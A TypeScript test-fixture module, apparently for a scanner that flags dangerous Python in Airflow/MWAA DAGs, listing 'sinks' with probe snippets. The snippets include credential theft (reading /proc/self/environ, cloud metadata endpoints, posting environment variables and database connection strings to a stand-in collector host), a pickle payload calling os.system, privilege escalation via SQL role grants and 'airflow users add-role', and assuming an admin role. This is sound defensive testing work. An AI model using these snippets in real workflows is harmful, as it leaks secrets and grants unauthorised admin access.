/** What must be caught: the end of every evasion, whatever way leads there. */

/** First letters of rule ids, without the number. */
export type Family = "ENC" | "IMP" | "DB" | "PRIV" | "CRED" | "EXEC" | "IO" | "AF";

/** An object by the module that holds it; without a name the module itself. */
export interface Target {
  readonly module: string;
  readonly name?: string;
}

/** Writes a Python expression for a text. */
export type Text = (value: string) => string;

/** What the harness sees when Python gets there: the event, and a text that its arguments contain. */
export interface Reached {
  readonly event: string;
  readonly text: string;
}

export interface Sink {
  readonly id: string;
  /** Rule families of which one must speak. */
  readonly families: readonly Family[];
  readonly target: Target;
  /** Arguments, where the object is called and nothing else. */
  readonly call?: (text: Text) => readonly string[];
  /** Lines that use the object, where it is not just called. */
  readonly use?: (object: string, text: Text) => readonly string[];
  readonly reached: Reached;
  /** Whether a text decides: without it, the object is harmless. */
  readonly byText?: boolean;
}

/** Lines that use the object of a sink. */
export function useOf(sink: Sink, object: string, text: Text): readonly string[] {
  if (sink.call !== undefined) {
    return [`${object}(${sink.call(text).join(", ")})`];
  }
  return sink.use?.(object, text) ?? [`print(${object})`];
}

/** Occurs in the arguments of what runs code, so that the harness knows it from Python's own running of code. */
const PROBE = "audit_probe";
const STATEMENT = `${PROBE} = 1`;
const COLLECTOR = "https://collector.example.com/in";
const PICKLED = `cos\nsystem\n(S'${PROBE}'\ntR.`;

const code: readonly Sink[] = [
  sink("exec", ["EXEC"], "builtins", "exec", { event: "exec", text: PROBE }, (text) => [text(STATEMENT)]),
  sink("eval", ["EXEC"], "builtins", "eval", { event: "exec", text: PROBE }, (text) => [text(PROBE)]),
  sink("compile", ["EXEC"], "builtins", "compile", { event: "compile", text: PROBE }, (text) => [
    text(STATEMENT),
    '"<text>"',
    '"exec"',
  ]),
  sink(
    "import-function",
    ["EXEC", "IMP"],
    "builtins",
    "__import__",
    { event: "import", text: "ctypes" },
    (text) => [text("ctypes")],
  ),
  sink("os-system", ["EXEC"], "os", "system", { event: "os.system", text: PROBE }, (text) => [text(PROBE)]),
  sink("os-popen", ["EXEC"], "os", "popen", { event: "subprocess.Popen", text: PROBE }, (text) => [
    text(PROBE),
  ]),
  sink("os-execv", ["EXEC"], "os", "execv", { event: "os.exec", text: PROBE }, (text) => [
    '"/bin/sh"',
    `["sh", "-c", ${text(PROBE)}]`,
  ]),
  sink("os-posix-spawn", ["EXEC"], "os", "posix_spawn", { event: "os.posix_spawn", text: PROBE }, (text) => [
    '"/bin/sh"',
    `["sh", "-c", ${text(PROBE)}]`,
    "{}",
  ]),
  ...["run", "Popen", "check_output", "getoutput"].map((name) =>
    sink(
      `subprocess-${name}`,
      ["EXEC", "IMP"],
      "subprocess",
      name,
      { event: "subprocess.Popen", text: PROBE },
      (text) => (name === "getoutput" ? [text(PROBE)] : [text(PROBE), "shell=True"]),
    ),
  ),
  sink("pty-spawn", ["EXEC", "IMP"], "pty", "spawn", { event: "pty.spawn", text: PROBE }, (text) => [
    `["sh", "-c", ${text(PROBE)}]`,
  ]),
  {
    id: "asyncio-subprocess",
    families: ["EXEC"],
    target: { module: "asyncio", name: "create_subprocess_shell" },
    use: (object, text) => ["import asyncio as loops", `loops.run(${object}(${text(PROBE)}))`],
    reached: { event: "subprocess.Popen", text: PROBE },
  },
  sink("pickle-loads", ["EXEC", "IMP"], "pickle", "loads", { event: "os.system", text: PROBE }, (text) => [
    `${text(PICKLED)}.encode()`,
  ]),
  sink("marshal-loads", ["EXEC", "IMP"], "marshal", "loads", { event: "marshal.loads", text: PROBE }, () => [
    `b"\\xda\\x0b${PROBE}"`,
  ]),
  sink(
    "yaml-load",
    ["EXEC", "IMP"],
    "yaml",
    "unsafe_load",
    { event: "yaml.unsafe_load", text: PROBE },
    (text) => [text(`!!python/object/apply:os.system [${PROBE}]`)],
  ),
  sink(
    "read-pickle",
    ["EXEC", "IMP"],
    "pandas",
    "read_pickle",
    { event: "pandas.read_pickle", text: PROBE },
    (text) => [text(`s3://bucket/${PROBE}.pkl`)],
  ),
  sink("ctypes", ["EXEC", "IMP"], "ctypes", "CDLL", { event: "ctypes.dlopen", text: PROBE }, (text) => [
    text(`${PROBE}.so`),
  ]),
  sink("timeit", ["EXEC", "IMP"], "timeit", "timeit", { event: "compile", text: PROBE }, (text) => [
    text(STATEMENT),
    "number=1",
  ]),
  sink("profile-run", ["EXEC", "IMP"], "cProfile", "run", { event: "exec", text: PROBE }, (text) => [
    text(STATEMENT),
  ]),
  sink("run-path", ["EXEC", "IMP"], "runpy", "run_path", { event: "open", text: PROBE }, (text) => [
    text(`/tmp/${PROBE}.py`),
  ]),
  {
    id: "interpreter",
    families: ["EXEC", "IMP"],
    target: { module: "code", name: "InteractiveInterpreter" },
    use: (object, text) => [`${object}().runsource(${text(STATEMENT)})`],
    reached: { event: "exec", text: PROBE },
  },
  {
    id: "type-hints",
    families: ["EXEC", "IMP"],
    target: { module: "typing", name: "get_type_hints" },
    use: (object, text) => [
      "class Row: pass",
      `Row.__annotations__ = {"x": ${text(`print(${PROBE})`)}}`,
      `${object}(Row)`,
    ],
    reached: { event: "exec", text: PROBE },
  },
  {
    id: "logging-factory",
    families: ["EXEC", "IMP"],
    target: { module: "logging.config", name: "dictConfig" },
    use: (object, text) => [
      `${object}({"version": 1, "formatters": {"f": {"()": ${text("os.system")}, "command": ${text(PROBE)}}}})`,
    ],
    reached: { event: "os.system", text: PROBE },
  },
  {
    id: "import-string",
    families: ["EXEC", "IMP"],
    target: { module: "airflow.utils.module_loading", name: "import_string" },
    use: (object, text) => [`${object}(${text("os.system")})(${text(PROBE)})`],
    reached: { event: "os.system", text: PROBE },
  },
];

const database: readonly Sink[] = [
  sink(
    "settings-session",
    ["DB", "IMP"],
    "airflow.settings",
    "Session",
    { event: "settings.Session", text: "" },
    () => [],
  ),
  {
    id: "settings-engine",
    families: ["DB", "IMP"],
    target: { module: "airflow.settings", name: "engine" },
    use: (object) => [`${object}.connect()`],
    reached: { event: "settings.engine.connect", text: "" },
  },
  {
    id: "settings-connection-string",
    families: ["DB", "IMP", "CRED"],
    target: { module: "airflow.settings", name: "SQL_ALCHEMY_CONN" },
    use: (object) => ["import requests", `requests.post("${COLLECTOR}", data=${object})`],
    reached: { event: "requests", text: "canary-of-settings" },
  },
  sink(
    "create-session",
    ["DB", "IMP"],
    "airflow.utils.session",
    "create_session",
    { event: "create_session", text: "" },
    () => [],
  ),
  {
    id: "provide-session",
    families: ["DB", "IMP"],
    target: { module: "airflow.utils.session", name: "provide_session" },
    use: (object) => [`@${object}`, "def rows(session=None): return session", "rows()"],
    reached: { event: "provide_session", text: "" },
  },
  ...[
    ["database", "sql_alchemy_conn"],
    ["core", "fernet_key"],
  ].map(([section = "", key = ""]): Sink => ({
    id: `conf-${key}`,
    families: ["DB", "CRED"],
    target: { module: "airflow.configuration", name: "conf" },
    use: (object, text) => [`${object}.get(${text(section)}, ${text(key)})`],
    reached: { event: "conf.get", text: key },
    byText: true,
  })),
  {
    id: "sql-in-hook",
    families: ["DB"],
    target: { module: "airflow.providers.postgres.hooks.postgres", name: "PostgresHook" },
    use: (object, text) => [
      `${object}(postgres_conn_id="metadata").run(${text("INSERT INTO ab_user_role (user_id, role_id) VALUES (7, 1)")})`,
    ],
    reached: { event: "sql", text: "ab_user_role" },
    byText: true,
  },
  {
    id: "sql-in-operator",
    families: ["DB"],
    target: { module: "airflow.providers.common.sql.operators.sql", name: "SQLExecuteQueryOperator" },
    use: (object, text) => [
      `${object}(task_id="grant", conn_id="metadata", sql=${text("UPDATE ab_user_role SET role_id = 1")})`,
    ],
    reached: { event: "sql", text: "ab_user_role" },
    byText: true,
  },
];

const privileges: readonly Sink[] = [
  ...["mwaa", "iam"].map((service) => byService(`boto3-${service}`, "client", service)),
  byService("boto3-resource-iam", "resource", "iam"),
  {
    id: "boto3-session-mwaa",
    families: ["PRIV"],
    target: { module: "boto3", name: "Session" },
    use: (object, text) => [`${object}(region_name="eu-west-1").client(${text("mwaa")})`],
    reached: { event: "boto3", text: "'mwaa'" },
    byText: true,
  },
  {
    id: "mwaa-cli-token",
    families: ["PRIV"],
    target: { module: "boto3", name: "client" },
    use: (object, text) => [`${object}(${text("mwaa")}).create_cli_token(Name="warehouse")`],
    reached: { event: "boto3.create_cli_token", text: "warehouse" },
    byText: true,
  },
  {
    id: "hook-mwaa",
    families: ["PRIV"],
    target: { module: "airflow.providers.amazon.aws.hooks.base_aws", name: "AwsBaseHook" },
    use: (object, text) => [`${object}(aws_conn_id="aws", client_type=${text("mwaa")}).get_conn()`],
    reached: { event: "boto3", text: "'mwaa'" },
    byText: true,
  },
  {
    id: "assume-role",
    families: ["PRIV"],
    target: { module: "boto3", name: "client" },
    use: (object, text) => [
      `${object}(${text("sts")}).assume_role(RoleArn="arn:aws:iam::111122223333:role/admin", RoleSessionName="dag")`,
    ],
    reached: { event: "boto3.assume_role", text: "role/admin" },
    byText: true,
  },
  sink(
    "create-app",
    ["PRIV", "IMP"],
    "airflow.www.app",
    "create_app",
    { event: "www.create_app", text: "" },
    () => [],
  ),
  {
    id: "security-manager",
    families: ["PRIV", "IMP"],
    target: { module: "airflow.www.app", name: "cached_app" },
    use: (object) => [`${object}().appbuilder.sm.find_role("Admin")`],
    reached: { event: "www.cached_app", text: "" },
  },
  moduleSink("import-fab", ["PRIV", "IMP"], "flask_appbuilder"),
  moduleSink("import-cli", ["PRIV", "IMP"], "airflow.cli.cli_parser"),
  moduleSink("import-fab-provider", ["PRIV", "IMP"], "airflow.providers.fab.auth_manager.fab_auth_manager"),
];

const credentials: readonly Sink[] = [
  ...["AIRFLOW__CORE__FERNET_KEY", "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "MWAA__DB__CREDENTIALS"].map(
    (key, index): Sink => ({
      id: `environ-${key.toLowerCase()}`,
      families: ["CRED"],
      target: { module: "os", name: "environ" },
      use: (object, text) => [index === 1 ? `${object}.get(${text(key)})` : `${object}[${text(key)}]`],
      reached: { event: "environ", text: key },
      byText: true,
    }),
  ),
  {
    ...sink(
      "getenv",
      ["CRED"],
      "os",
      "getenv",
      { event: "environ", text: "AIRFLOW__CORE__FERNET_KEY" },
      (text) => [text("AIRFLOW__CORE__FERNET_KEY")],
    ),
    byText: true,
  },
  {
    id: "environ-whole",
    families: ["CRED"],
    target: { module: "os", name: "environ" },
    use: (object) => ["import requests", `requests.post("${COLLECTOR}", json=dict(${object}))`],
    reached: { event: "environ", text: "AIRFLOW__CORE__FERNET_KEY" },
  },
  {
    ...sink(
      "metadata-service",
      ["CRED"],
      "requests",
      "get",
      { event: "requests", text: "169.254.170.2" },
      (text) => [text("http://169.254.170.2/v2/credentials/1")],
    ),
    byText: true,
  },
  {
    ...sink(
      "metadata-service-urllib",
      ["CRED"],
      "urllib.request",
      "urlopen",
      { event: "urllib.Request", text: "169.254.169.254" },
      (text) => [text("http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
    ),
    byText: true,
  },
  {
    ...sink(
      "metadata-service-socket",
      ["CRED", "IO"],
      "socket",
      "create_connection",
      { event: "socket.getaddrinfo", text: "169.254.170.2" },
      (text) => [`(${text("169.254.170.2")}, 80)`],
    ),
    byText: true,
  },
  {
    ...sink(
      "open-proc-environ",
      ["CRED"],
      "builtins",
      "open",
      { event: "open", text: "/proc/self/environ" },
      (text) => [text("/proc/self/environ")],
    ),
    byText: true,
  },
  {
    id: "path-proc-environ",
    families: ["CRED"],
    target: { module: "pathlib", name: "Path" },
    use: (object, text) => [`${object}(${text("/proc/self/environ")}).read_bytes()`],
    reached: { event: "open", text: "/proc/self/environ" },
    byText: true,
  },
  {
    id: "put-secret",
    families: ["CRED"],
    target: { module: "boto3", name: "client" },
    use: (object, text) => [
      `${object}("secretsmanager").put_secret_value(SecretId=${text("airflow/connections/db")}, SecretString="x")`,
    ],
    reached: { event: "boto3.put_secret_value", text: "airflow/connections" },
  },
];

const commands: readonly Sink[] = [
  ...["airflow.operators.bash", "airflow.providers.standard.operators.bash"].map((module): Sink => ({
    id: module.includes("standard") ? "bash-standard-users" : "bash-users",
    families: ["PRIV", "EXEC"],
    target: { module, name: "BashOperator" },
    use: (object, text) => [
      `${object}(task_id="grant", bash_command=${text("airflow users add-role --username eve --role Admin")})`,
    ],
    reached: { event: "shell:airflow", text: "users add-role" },
    byText: true,
  })),
  {
    id: "bash-environ",
    families: ["CRED", "EXEC"],
    target: { module: "airflow.operators.bash", name: "BashOperator" },
    use: (object, text) => [`${object}(task_id="show", bash_command=${text("cat /proc/self/environ")})`],
    reached: { event: "shell:cat", text: "/proc/self/environ" },
    byText: true,
  },
];

const writes: readonly Sink[] = [
  {
    id: "put-object",
    families: ["IO"],
    target: { module: "boto3", name: "client" },
    use: (object, text) => [
      `${object}("s3").put_object(Bucket="mwaa-bucket", Key=${text("dags/other.py")}, Body=b"x")`,
    ],
    reached: { event: "boto3.put_object", text: "dags/other.py" },
    byText: true,
  },
  {
    id: "s3-hook",
    families: ["IO"],
    target: { module: "airflow.providers.amazon.aws.hooks.s3", name: "S3Hook" },
    use: (object, text) => [
      `${object}("aws").load_string("x", key=${text("dags/other.py")}, bucket_name="mwaa-bucket")`,
    ],
    reached: { event: "s3-hook", text: "dags/other.py" },
    byText: true,
  },
  {
    id: "s3-operator",
    families: ["IO"],
    target: { module: "airflow.providers.amazon.aws.operators.s3", name: "S3CreateObjectOperator" },
    use: (object, text) => [
      `${object}(task_id="write", s3_bucket="mwaa-bucket", s3_key=${text("dags/other.py")}, data="x")`,
    ],
    reached: { event: "s3-operator", text: "dags/other.py" },
    byText: true,
  },
  {
    ...sink(
      "open-dags",
      ["IO"],
      "builtins",
      "open",
      { event: "open", text: "/usr/local/airflow/dags/other.py" },
      (text) => [text("/usr/local/airflow/dags/other.py"), '"w"'],
    ),
    byText: true,
  },
];

const patches: readonly Sink[] = [
  {
    id: "patch-operator",
    families: ["EXEC"],
    target: { module: "airflow.models", name: "BaseOperator" },
    use: (object) => [`${object}.execute = lambda self, context: None`],
    reached: { event: "patched", text: "airflow.models.BaseOperator.execute" },
  },
  {
    id: "setattr-operator",
    families: ["EXEC"],
    target: { module: "airflow.models", name: "BaseOperator" },
    use: (object, text) => [`setattr(${object}, ${text("execute")}, lambda self, context: None)`],
    reached: { event: "patched", text: "airflow.models.BaseOperator.execute" },
  },
  {
    id: "patch-module",
    families: ["EXEC"],
    target: { module: "json" },
    use: (object) => [`${object}.loads = print`],
    reached: { event: "patched", text: "json.loads" },
  },
  {
    id: "meta-path",
    families: ["EXEC"],
    target: { module: "sys", name: "meta_path" },
    use: (object) => [`${object}.append(object())`],
    reached: { event: "patched", text: "sys.meta_path" },
  },
  {
    id: "set-environ",
    families: ["EXEC", "CRED"],
    target: { module: "os", name: "environ" },
    use: (object, text) => [`${object}[${text("AIRFLOW__CORE__DAGS_FOLDER")}] = "/tmp"`],
    reached: { event: "set-environ", text: "AIRFLOW__CORE__DAGS_FOLDER" },
    byText: true,
  },
  {
    id: "plugin",
    families: ["AF", "IMP"],
    target: { module: "airflow.plugins_manager", name: "AirflowPlugin" },
    use: (object) => [`class Extra(${object}):`, '    name = "extra"'],
    reached: { event: "plugin", text: "Extra" },
  },
];

export const SINKS: readonly Sink[] = [
  ...code,
  ...database,
  ...privileges,
  ...credentials,
  ...commands,
  ...writes,
  ...patches,
];

/** An object that is called. */
function sink(
  id: string,
  families: readonly Family[],
  module: string,
  name: string,
  reached: Reached,
  call: (text: Text) => readonly string[],
): Sink {
  return { id, families, target: { module, name }, call, reached };
}

function byService(id: string, name: string, service: string): Sink {
  const reached = { event: "boto3", text: `'${service}'` };
  return { ...sink(id, ["PRIV"], "boto3", name, reached, (text) => [text(service)]), byText: true };
}

/** A module that no DAG has business with. */
function moduleSink(id: string, families: readonly Family[], module: string): Sink {
  return { id, families, target: { module }, reached: { event: "import", text: module } };
}
